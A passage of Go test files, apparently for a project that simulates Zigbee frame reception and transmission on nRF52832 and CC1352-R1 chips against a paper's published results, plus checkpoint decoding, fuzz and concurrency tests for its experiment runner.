	if rate := res.ValidRate(); rate < 0.99 {
		t.Errorf("clean-channel valid rate = %.3f, want ≥ 0.99\n%s", rate, FormatComparison(res))
	}
}

func TestRunTransmissionCleanChannels(t *testing.T) {
	cfg := quickConfig()
	cfg.WiFi = false
	res, err := Run(cfg, chip.NRF52832(), Transmission)
	if err != nil {
		t.Fatal(err)
	}
	if rate := res.ValidRate(); rate < 0.98 {
		t.Errorf("clean-channel valid rate = %.3f, want ≥ 0.98\n%s", rate, FormatComparison(res))
	}
}

func TestRunDeterministic(t *testing.T) {
	cfg := quickConfig()
	a, err := Run(cfg, chip.NRF52832(), Reception)
	if err != nil {
		t.Fatal(err)
	}
	b, err := Run(cfg, chip.NRF52832(), Reception)
	if err != nil {
		t.Fatal(err)
	}
	for i := range a.Rows {
		if a.Rows[i] != b.Rows[i] {
			t.Fatalf("row %d differs between identical runs: %+v vs %+v", i, a.Rows[i], b.Rows[i])
		}
	}
}

func TestRunWiFiDegradesOverlappedChannels(t *testing.T) {
	// With WiFi on channels 6 and 11, the loss must concentrate on the
	// overlapped Zigbee channels, reproducing the paper's observation.
	cfg := quickConfig()
	cfg.FramesPerChannel = 25
	cfg.WiFiDutyCycle = 0.08 // exaggerate so a short run shows the shape
	res, err := Run(cfg, chip.NRF52832(), Reception)
	if err != nil {
		t.Fatal(err)
	}
	lossOn := 0
	lossOff := 0
	overlapped := map[int]bool{16: true, 17: true, 18: true, 19: true, 21: true, 22: true, 23: true, 24: true}
	for _, row := range res.Rows {
		loss := row.Corrupted + row.NotReceived
		if overlapped[row.Channel] {
			lossOn += loss
		} else {
			lossOff += loss
		}
	}
	if lossOn <= lossOff {
		t.Errorf("loss on WiFi-overlapped channels (%d) not above clean channels (%d)\n%s",
			lossOn, lossOff, FormatComparison(res))
	}
}

func TestResultHelpers(t *testing.T) {
	res := &Result{
		Chip: "nRF52832", Side: Reception, Frames: 10,
		Rows: []ChannelResult{
			{Channel: 11, Valid: 9, Corrupted: 1},
			{Channel: 12, Valid: 10},
		},
	}
	valid, corrupted, lost := res.Totals()
	if valid != 19 || corrupted != 1 || lost != 0 {
		t.Errorf("Totals = %d/%d/%d", valid, corrupted, lost)
	}
	if rate := res.ValidRate(); rate != 0.95 {
		t.Errorf("ValidRate = %g, want 0.95", rate)
	}
	if _, ok := res.Row(11); !ok {
		t.Error("Row(11) not found")
	}
	if _, ok := res.Row(26); ok {
		t.Error("Row(26) unexpectedly found")
	}
	empty := &Result{}
	if empty.ValidRate() != 0 {
		t.Error("empty result should have zero valid rate")
	}
}

func TestPaperTable3Data(t *testing.T) {
	for _, chipName := range []string{"nRF52832", "CC1352-R1"} {
		for _, side := range []Side{Reception, Transmission} {
			rows, ok := PaperTable3(chipName, side)
			if !ok {
				t.Fatalf("missing paper data for %s/%v", chipName, side)
			}
			if len(rows) != 16 {
				t.Fatalf("%s/%v has %d rows, want 16", chipName, side, len(rows))
			}
			for i, r := range rows {
				if r.Channel != 11+i {
					t.Errorf("%s/%v row %d channel = %d", chipName, side, i, r.Channel)
				}
				if r.Valid+r.Corrupted > 100 {
					t.Errorf("%s/%v channel %d counts exceed 100", chipName, side, r.Channel)
				}
			}
		}
	}
	if _, ok := PaperTable3("unknown", Reception); ok {
		t.Error("unknown chip should have no paper data")
	}
}

func TestPaperAverages(t *testing.T) {
	// Section V quotes these averages; the transcription must match.
	tests := []struct {
		chipName string
		side     Side
		want     float64
	}{
		{"nRF52832", Reception, 98.625},
		{"CC1352-R1", Reception, 99.375},
		{"nRF52832", Transmission, 97.5},
		{"CC1352-R1", Transmission, 99.4375},
	}
	for _, tt := range tests {
		got, ok := PaperAverageValid(tt.chipName, tt.side)
		if !ok {
			t.Fatalf("no average for %s/%v", tt.chipName, tt.side)
		}
		if diff := got - tt.want; diff > 0.01 || diff < -0.01 {
			t.Errorf("%s/%v average = %.4f, want %.4f", tt.chipName, tt.side, got, tt.want)
		}
	}
	if _, ok := PaperAverageValid("unknown", Reception); ok {
		t.Error("unknown chip should have no average")
	}
}

func TestFormatComparison(t *testing.T) {
	cfg := quickConfig()
	cfg.WiFi = false
	cfg.FramesPerChannel = 2
	res, err := Run(cfg, chip.CC1352R1(), Reception)
	if err != nil {
		t.Fatal(err)
	}
	out := FormatComparison(res)
	for _, want := range []string{"CC1352-R1", "reception", "ch 11", "ch 26", "average valid", "paper"} {
		if !strings.Contains(out, want) {
			t.Errorf("comparison output missing %q:\n%s", want, out)
		}
	}
}
