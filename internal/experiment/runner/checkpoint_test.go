package runner

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

func validCheckpointBytes(t *testing.T) []byte {
	t.Helper()
	spec := Spec{Name: "cp", Seed: 5, Points: []Point{{Key: "p", Trials: 4}}, ShardSize: 2, Classes: []string{"ok", "bad"}}
	cp := Checkpoint{
		Version:     CheckpointVersion,
		Spec:        spec.Name,
		Seed:        spec.Seed,
		Fingerprint: fingerprint(&spec),
		Shards: []ShardRecord{
			{Point: "p", Start: 0, End: 2, Counts: map[string]int{"ok": 2}, Sum: 1.5},
			{Point: "p", Start: 2, End: 4, Counts: map[string]int{"ok": 1, "bad": 1}, Sum: 0.25},
		},
	}
	data, err := json.Marshal(&cp)
	if err != nil {
		t.Fatal(err)
	}
	return data
}

func TestDecodeCheckpointRoundTrip(t *testing.T) {
	cp, err := DecodeCheckpoint(validCheckpointBytes(t))
	if err != nil {
		t.Fatal(err)
	}
	if cp.Version != CheckpointVersion || len(cp.Shards) != 2 {
		t.Fatalf("decoded %+v", cp)
	}
	if cp.Shards[0].Sum != 1.5 || cp.Shards[1].Counts["bad"] != 1 {
		t.Fatalf("shard payload lost: %+v", cp.Shards)
	}
}

func TestDecodeCheckpointRejections(t *testing.T) {
	valid := validCheckpointBytes(t)
	cases := []struct {
		name string
		data []byte
		want string
	}{
		{"empty", nil, "corrupt"},
		{"truncated", valid[:len(valid)/2], "corrupt"},
		{"not json", []byte("definitely not json"), "corrupt"},
		{"no version", []byte(`{"shards":[]}`), "version"},
		{"future version", []byte(`{"version":99}`), "newer than supported"},
		{"empty point key", []byte(`{"version":1,"shards":[{"point":"","start":0,"end":2}]}`), "no point key"},
		{"inverted range", []byte(`{"version":1,"shards":[{"point":"p","start":3,"end":1}]}`), "invalid trial range"},
		{"negative start", []byte(`{"version":1,"shards":[{"point":"p","start":-1,"end":1}]}`), "invalid trial range"},
		{"negative count", []byte(`{"version":1,"shards":[{"point":"p","start":0,"end":1,"counts":{"ok":-1}}]}`), "class"},
		{"count mismatch", []byte(`{"version":1,"shards":[{"point":"p","start":0,"end":4,"counts":{"ok":1}}]}`), "tallies"},
	}
	for _, tc := range cases {
		_, err := DecodeCheckpoint(tc.data)
		if err == nil {
			t.Errorf("%s: accepted", tc.name)
			continue
		}
		if !strings.Contains(err.Error(), tc.want) {
			t.Errorf("%s: error %q does not mention %q", tc.name, err, tc.want)
		}
	}
}

func TestSaveLoadCheckpoint(t *testing.T) {
	spec := Spec{Name: "sl", Seed: 7, Points: []Point{{Key: "a", Trials: 3}, {Key: "b", Trials: 3}}, ShardSize: 3, Classes: []string{"ok"}}
	path := filepath.Join(t.TempDir(), "cp.json")

	// Missing file is a fresh start, not an error.
	cp, err := loadCheckpoint(path, &spec)
	if err != nil || cp != nil {
		t.Fatalf("missing checkpoint: cp=%v err=%v", cp, err)
	}

	records := []ShardRecord{
		{Point: "b", Start: 0, End: 3, Counts: map[string]int{"ok": 3}},
		{Point: "a", Start: 0, End: 3, Counts: map[string]int{"ok": 3}, Sum: 2},
	}
	if err := saveCheckpoint(path, &spec, records); err != nil {
		t.Fatal(err)
	}
	cp, err = loadCheckpoint(path, &spec)
	if err != nil {
		t.Fatal(err)
	}
	// Canonical order: point key, then start.
	if cp.Shards[0].Point != "a" || cp.Shards[1].Point != "b" {
		t.Errorf("shards not in canonical order: %+v", cp.Shards)
	}
	if cp.Shards[0].Sum != 2 {
		t.Errorf("sum lost on round trip: %+v", cp.Shards[0])
	}

	// A spec with different points must refuse the file.
	other := spec
	other.Points = []Point{{Key: "a", Trials: 6}}
	if _, err := loadCheckpoint(path, &other); err == nil || !strings.Contains(err.Error(), "different run") {
		t.Errorf("foreign checkpoint accepted: %v", err)
	}

	// Corrupt file on disk surfaces the decode error with the path.
	if err := os.WriteFile(path, []byte("{"), 0o644); err != nil {
		t.Fatal(err)
	}
	if _, err := loadCheckpoint(path, &spec); err == nil || !strings.Contains(err.Error(), path) {
		t.Errorf("corrupt checkpoint error does not name the file: %v", err)
	}
}

func TestFingerprintSensitivity(t *testing.T) {
	base := Spec{Name: "fp", Seed: 1, Points: []Point{{Key: "a", Trials: 10}}, ShardSize: 4, Classes: []string{"ok"}}
	fp := fingerprint(&base)
	mutations := map[string]Spec{
		"seed":       {Name: "fp", Seed: 2, Points: base.Points, ShardSize: 4, Classes: base.Classes},
		"name":       {Name: "fq", Seed: 1, Points: base.Points, ShardSize: 4, Classes: base.Classes},
		"shard size": {Name: "fp", Seed: 1, Points: base.Points, ShardSize: 5, Classes: base.Classes},
		"trials":     {Name: "fp", Seed: 1, Points: []Point{{Key: "a", Trials: 11}}, ShardSize: 4, Classes: base.Classes},
		"point key":  {Name: "fp", Seed: 1, Points: []Point{{Key: "b", Trials: 10}}, ShardSize: 4, Classes: base.Classes},
		"classes":    {Name: "fp", Seed: 1, Points: base.Points, ShardSize: 4, Classes: []string{"ok", "bad"}},
	}
	for what, m := range mutations {
		if fingerprint(&m) == fp {
			t.Errorf("fingerprint blind to %s change", what)
		}
	}
	same := base
	if fingerprint(&same) != fp {
		t.Error("fingerprint not stable")
	}
}
