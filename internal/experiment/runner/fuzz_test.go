package runner

import (
	"encoding/json"
	"testing"
)

// FuzzCheckpointDecode drives the untrusted-input path of checkpoint
// resume: whatever bytes land in the file — corruption, truncation,
// future versions, hostile values — DecodeCheckpoint must either return
// a descriptive error or a structurally valid checkpoint, never panic.
func FuzzCheckpointDecode(f *testing.F) {
	spec := Spec{Name: "fuzz", Seed: 3, Points: []Point{{Key: "p", Trials: 4}}, ShardSize: 2, Classes: []string{"ok"}}
	valid, err := json.Marshal(&Checkpoint{
		Version:     CheckpointVersion,
		Spec:        spec.Name,
		Seed:        spec.Seed,
		Fingerprint: fingerprint(&spec),
		Shards: []ShardRecord{
			{Point: "p", Start: 0, End: 2, Counts: map[string]int{"ok": 2}, Sum: 0.5},
		},
	})
	if err != nil {
		f.Fatal(err)
	}
	f.Add(valid)
	f.Add(valid[:len(valid)/2])
	f.Add([]byte(`{"version":99}`))
	f.Add([]byte(`{"version":1,"shards":[{"point":"p","start":-9,"end":0}]}`))
	f.Add([]byte(`{"version":1,"shards":[{"point":"p","start":0,"end":9007199254740993,"counts":{"ok":-5}}]}`))
	f.Add([]byte(``))

	f.Fuzz(func(t *testing.T, data []byte) {
		cp, err := DecodeCheckpoint(data)
		if err != nil {
			if err.Error() == "" {
				t.Fatal("empty rejection message")
			}
			return
		}
		// Accepted checkpoints must uphold the invariants resume relies
		// on; anything else means validation has a hole.
		if cp.Version <= 0 || cp.Version > CheckpointVersion {
			t.Fatalf("accepted version %d", cp.Version)
		}
		for _, s := range cp.Shards {
			if s.Point == "" || s.Start < 0 || s.End <= s.Start {
				t.Fatalf("accepted invalid shard %+v", s)
			}
			total := 0
			for _, n := range s.Counts {
				if n < 0 {
					t.Fatalf("accepted negative count in %+v", s)
				}
				total += n
			}
			if total != s.End-s.Start {
				t.Fatalf("accepted tally mismatch in %+v", s)
			}
		}
	})
}
