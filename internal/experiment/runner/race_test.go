package runner

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"sync"
	"sync/atomic"
	"testing"

	"wazabee/internal/obs"
)

// TestRunnerHammer churns worker pools of every size over one shared
// registry — many concurrent sweeps, each with its own spec label — and
// checks exact counter accounting and cross-run determinism afterwards.
// It is the `make racerunner` workload: under -race it also proves the
// engine's shared state is properly synchronised.
func TestRunnerHammer(t *testing.T) {
	reg := obs.NewRegistry()
	const lanes = 6
	const runsPerLane = 3
	points := []Point{{Key: "a", Trials: 23}, {Key: "b", Trials: 41}}
	totalTrials := uint64(23 + 41)
	totalShards := uint64(6 + 11) // ceil(23/4) + ceil(41/4)

	results := make([][]byte, lanes*runsPerLane)
	var wg sync.WaitGroup
	for lane := 0; lane < lanes; lane++ {
		wg.Add(1)
		go func(lane int) {
			defer wg.Done()
			for n := 0; n < runsPerLane; n++ {
				spec := Spec{
					Name:      fmt.Sprintf("hammer-%d-%d", lane, n),
					Seed:      77,
					Points:    points,
					Workers:   1 + (lane+n)%8, // pool churn: every size 1..8
					ShardSize: 4,
					Classes:   []string{"ok", "bad"},
					Obs:       reg,
				}
				res, err := Run(context.Background(), spec, coinTrial(0.5))
				if err != nil {
					t.Error(err)
					return
				}
				res.Name = "" // normalise for cross-run comparison
				data, err := json.Marshal(res)
				if err != nil {
					t.Error(err)
					return
				}
				results[lane*runsPerLane+n] = data
			}
		}(lane)
	}
	wg.Wait()
	if t.Failed() {
		return
	}

	for i := 1; i < len(results); i++ {
		if string(results[i]) != string(results[0]) {
			t.Fatalf("run %d differs from run 0 under concurrency:\n%s\nvs\n%s", i, results[i], results[0])
		}
	}
	for lane := 0; lane < lanes; lane++ {
		for n := 0; n < runsPerLane; n++ {
			label := fmt.Sprintf("hammer-%d-%d", lane, n)
			if got := reg.Counter(TrialsMetric, "spec", label).Value(); got != totalTrials {
				t.Errorf("%s: trials = %d, want %d", label, got, totalTrials)
			}
			completed := reg.Counter(ShardsMetric, "spec", label, "state", "completed").Value()
			restored := reg.Counter(ShardsMetric, "spec", label, "state", "restored").Value()
			skipped := reg.Counter(ShardsMetric, "spec", label, "state", "skipped").Value()
			if completed != totalShards || restored != 0 || skipped != 0 {
				t.Errorf("%s: shard accounting completed %d restored %d skipped %d, want %d/0/0",
					label, completed, restored, skipped, totalShards)
			}
			if d := reg.Counter(DiscardedMetric, "spec", label).Value(); d != 0 {
				t.Errorf("%s: discarded = %d, want 0", label, d)
			}
		}
	}
}

// TestRunnerHammerCancellation races cancellation against the pool and
// checks that the shard dispositions still account for every shard
// exactly once: completed + restored + skipped == total, regardless of
// where the axe fell.
func TestRunnerHammerCancellation(t *testing.T) {
	reg := obs.NewRegistry()
	const lanes = 4
	points := []Point{{Key: "a", Trials: 64}, {Key: "b", Trials: 64}}
	totalShards := uint64(16 + 16)

	var wg sync.WaitGroup
	for lane := 0; lane < lanes; lane++ {
		wg.Add(1)
		go func(lane int) {
			defer wg.Done()
			label := fmt.Sprintf("axe-%d", lane)
			ctx, cancel := context.WithCancel(context.Background())
			defer cancel()
			var executed atomic.Int64
			trial := func(c context.Context, seed int64, p Point, i int) (Outcome, error) {
				if executed.Add(1) == int64(13+lane*7) {
					cancel()
				}
				return coinTrial(0.5)(c, seed, p, i)
			}
			_, err := Run(ctx, Spec{
				Name: label, Seed: 5, Points: points,
				Workers: 2 + lane, ShardSize: 4,
				Classes: []string{"ok", "bad"}, Obs: reg,
			}, trial)
			if !errors.Is(err, context.Canceled) {
				t.Errorf("%s: err = %v, want context.Canceled", label, err)
			}
		}(lane)
	}
	wg.Wait()

	for lane := 0; lane < lanes; lane++ {
		label := fmt.Sprintf("axe-%d", lane)
		completed := reg.Counter(ShardsMetric, "spec", label, "state", "completed").Value()
		restored := reg.Counter(ShardsMetric, "spec", label, "state", "restored").Value()
		skipped := reg.Counter(ShardsMetric, "spec", label, "state", "skipped").Value()
		if completed+restored+skipped != totalShards {
			t.Errorf("%s: dispositions %d+%d+%d != %d shards", label, completed, restored, skipped, totalShards)
		}
	}
}
